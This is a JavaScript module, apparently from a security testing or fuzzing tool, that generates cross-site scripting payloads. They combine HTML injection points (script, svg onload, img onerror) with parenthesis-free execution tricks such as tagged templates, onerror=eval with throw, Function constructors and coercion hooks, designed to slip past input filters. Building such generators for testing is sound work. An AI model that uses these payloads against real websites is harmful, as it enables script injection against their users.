// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of scripts
import { DATA, DOUBLE, SINGLE, STRING_SINGLE } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** Calls without a parenthesis: tags of templates, handlers of errors, conversions, assignments. */
export const noParentheses = xssGenerator({
  name: 'no-parentheses',
  contexts: [DATA, DATA, DOUBLE, SINGLE, STRING_SINGLE],
  rules: {
    start: [
      '{open}<script>{quiet}</script>',
      '{open}<svg onload="{quiet}">',
      '{open}<img src=x onerror="{quiet}">',
      '{open}<input autofocus onfocus="{quiet}">',
    ],
    quiet: [
      '{dialog}`{digit}`',
      '{dialog}`{letters}`',
      'onerror={dialog};throw {digit}',
      '{onerror={dialog}}throw {digit}',
      "onerror=eval;throw'=alert\\x281\\x29'",
      'throw onerror={dialog},{digit}',
      "location='javascript:{dialog}\\x28{digit}\\x29'",
      'setTimeout`{dialog}\\x28{digit}\\x29`',
      'Function`{dialog}\\x281\\x29```',
      "Function`x${'{dialog}\\x281\\x29'}```",
      'self.{dialog}`1`',
      "window['{dialog}']`1`",
      'valueOf={dialog};window+1',
      "toString={dialog};window+''",
      "[]['constructor']['constructor']`{dialog}\\x281\\x29```",
      '[{digit}].find`${{dialog}}`',
      'new class{static{{dialog}`1`}}',
      'class x extends {dialog}`1`{}',
      'x={[Symbol.toPrimitive]:{dialog}};x+1',
      'location=`javascript:{dialog}%28{digit}%29`',
      "document.body.innerHTML='<img src=x onerror={dialog}&lpar;1&rpar;>'",
      "eval.call`${'{dialog}\\x281\\x29'}`",
      'self[`{dialog}`]`1`',
    ],
  },
});
